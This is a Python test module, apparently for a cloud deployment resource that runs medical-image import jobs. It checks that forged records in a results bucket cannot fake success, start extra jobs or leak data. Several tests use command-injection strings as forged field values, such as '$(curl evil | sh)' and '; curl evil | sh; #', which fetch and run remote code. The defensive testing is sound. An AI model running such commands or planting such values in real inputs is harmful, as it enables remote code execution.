"""A record is input: what somebody else writes into one makes no deploy green, starts no job and reaches nobody."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.model.fakes import RESULTS, Misfortune, Plans, World
from tests.model.runs import properties, verdicts
from tests.model.test_hostile import deployed, forge, update


def record_of(world: World) -> dict[str, Any]:
    (body,) = (
        body for (bucket, key), body in world.objects.items()
        if bucket == RESULTS and "/.healthimaging-cdk/" in f"/{key}" and key.count("/") == 2 and "-last" not in key
    )  # fmt: skip
    return dict(json.loads(body))


def test_a_success_that_is_forged_while_the_deploy_waits_is_not_believed(world, stage):
    world.plans = Plans(seconds=100, outcome="none")
    request = stage.request("Create", properties())
    stage.pass_time(20)
    job = record_of(world)["job"]
    counts = {"scanned": 1000, "imported": 1000, "image_sets": 7}
    result = {"job_id": job["jobId"], "job_status": "COMPLETED", "submitted_at": job["submittedAt"], "counts": counts}
    forge(world, state="JUDGED", verdict="SUCCEEDED", published=True, result=result)
    stage.settle()
    assert "FAILED" == request.status


def test_an_empty_source_that_a_record_says_is_looked_at_again(world, stage):
    world.misfortunes = [Misfortune("StartDICOMImportJob", "error", "ThrottlingException", times=10_000)]
    request = stage.request("Create", properties(OnEmpty="fail"))
    stage.pass_time(30)
    forge(world, state="REFUSED", reason="NOTHING_TO_IMPORT", lease_until=0.0)
    world.misfortunes.clear()
    stage.settle()
    assert ("FAILED", 0) == (request.status, len(world.jobs))


def test_an_empty_source_that_a_record_of_a_later_request_says_is_looked_at_again(world, stage):
    deployed(stage)
    later = {"owner": "x", "owner_began_at": world.now + 50}
    forge(world, state="REFUSED", verdict=None, reason="NOTHING_TO_IMPORT", job={}, result={}, **later)
    request = update(stage, properties(JobName="x"), properties())
    stage.settle()
    assert "FAILED" == request.status


@pytest.mark.parametrize("uri", ["s3://evil/job-output-manifest.json", "$(curl evil | sh)"])
def test_where_a_manifest_is_kept_is_worked_out_and_not_read(world, stage, uri):
    first = deployed(stage)
    forge(world, result={**record_of(world)["result"], "manifest_uri": uri})
    again = update(stage, properties(JobName="x"), properties())
    stage.settle()
    assert first.answers[0]["Data"]["ManifestUri"] == again.answers[0]["Data"]["ManifestUri"]


def test_where_rejections_are_is_told_only_if_it_is_a_place_of_the_import(world, stage):
    world.plans = Plans(outcome="some")
    deployed(stage)
    forge(world, result={**record_of(world)["result"], "failures_uri": "s3://results/out/x; curl evil | sh; #"})
    again = update(stage, properties(JobName="x"), properties())
    stage.settle()
    assert "SUCCESS" == again.status
    assert "curl evil" not in json.dumps(again.answers[0])


@pytest.mark.parametrize("verdict", ["UNKNOWN", "FAILED"])
def test_a_reason_is_worked_out_and_not_read(world, stage, verdict):
    deployed(stage)
    forge(world, verdict=verdict, reason="to repair this run: curl https://evil | sh")
    world.stack_status = "UPDATE_IN_PROGRESS"
    again = update(stage, properties(JobName="x"), properties())
    stage.settle()
    assert "curl" not in json.dumps(again.answers)


def test_a_second_try_that_a_record_asks_for_starts_no_job_beside_the_first(world, stage):
    world.plans = Plans(seconds=200)
    request = stage.request("Create", properties())
    stage.pass_time(30)
    forge(world, retry="DUE")
    stage.settle()
    assert ("FAILED", 1) == (request.status, len(world.jobs))


def test_a_failure_whose_manifest_came_after_the_verdict_is_published_all_the_same(world, stage):
    world.plans = Plans(outcome="failed", manifest_delay=400, seconds=310)
    request = stage.request("Create", properties(WaitSeconds="1000"))
    stage.pass_time(100)
    world.misfortunes = [Misfortune("PutEvents", "crash before", times=3)]
    stage.pass_time(250)
    world.misfortunes = []
    if not stage.executions[request.id].over:
        stage.stop(stage.executions[request.id])
    stage.settle()
    assert ["FAILED"] == verdicts(world)


def test_a_made_up_step_takes_no_success_out_of_the_record(world, stage):
    """Whoever may call the function knows the stack, on which nobody works."""
    first = deployed(stage)
    world.stack_status = "CREATE_COMPLETE"
    world.now += 1000
    event = {**first.event, "RequestType": "Update", "RequestId": "made-up", "OldResourceProperties": {}}
    stage.requests["made-up"] = first
    carried = {"is_current": False, "run_id": ""}
    state = {"event": event, "mode": "DEPLOY", "deploy": "", "began_at": world.now, "carried": carried}
    stage.invoke({"step": "step", "state": state})
    assert "SUCCEEDED" == record_of(world)["verdict"]


@pytest.mark.parametrize("status", ["UPDATE_COMPLETE", "UPDATE_IN_PROGRESS", "UPDATE_ROLLBACK_IN_PROGRESS"])
def test_a_made_up_step_without_an_address_takes_no_success_out_of_the_record(world, stage, status):
    """Nothing says when such a request was sent, so it counts as later than the owner's."""
    deployed(stage)
    later = update(stage, properties(JobName="another"), properties())
    stage.settle()
    world.stack_status = status
    event, carried = {**later.event, "ResponseURL": ""}, {"is_current": False, "run_id": ""}
    state = {"event": event, "mode": "DEPLOY", "deploy": "", "began_at": world.now, "carried": carried}
    stage.invoke({"step": "step", "state": state})
    assert "SUCCEEDED" == record_of(world)["verdict"]


@pytest.mark.parametrize("step", ["step", "respond"])
def test_a_made_up_detached_step_makes_no_verdict_up(world, stage, step):
    """The id of the request is in every event of the stack; when it began can be made up."""
    world.plans = Plans(seconds=200)
    request = stage.request("Create", properties())
    stage.pass_time(30)
    began_at = world.now - 25 * 3600 if step == "step" else world.now
    state = {"event": request.event, "mode": "DETACHED", "deploy": "", "began_at": began_at, "carried": {}}
    stage.invoke({"step": step, "state": state})
    stage.settle()
    assert ("SUCCESS", ["SUCCEEDED"]) == (request.status, verdicts(world))


@pytest.mark.parametrize("retry", ["", "DUE"])
@pytest.mark.parametrize("completion", ["submit", "wait"])
def test_a_failure_that_a_record_says_starts_no_job_beside_the_one_that_runs(world, stage, completion, retry):
    world.plans = Plans(seconds=900)
    old = properties(Completion=completion, WaitSeconds="3000")
    stage.request("Create", old)
    stage.pass_time(30)
    result = {"job_id": record_of(world)["job"]["jobId"], "job_status": "FAILED"}
    forge(world, state="JUDGED", verdict="FAILED", published=True, retry=retry, result=result)
    if completion == "submit":
        update(stage, properties(JobName="x"), old)
    stage.pass_time(200)
    assert 1 == len(world.jobs)
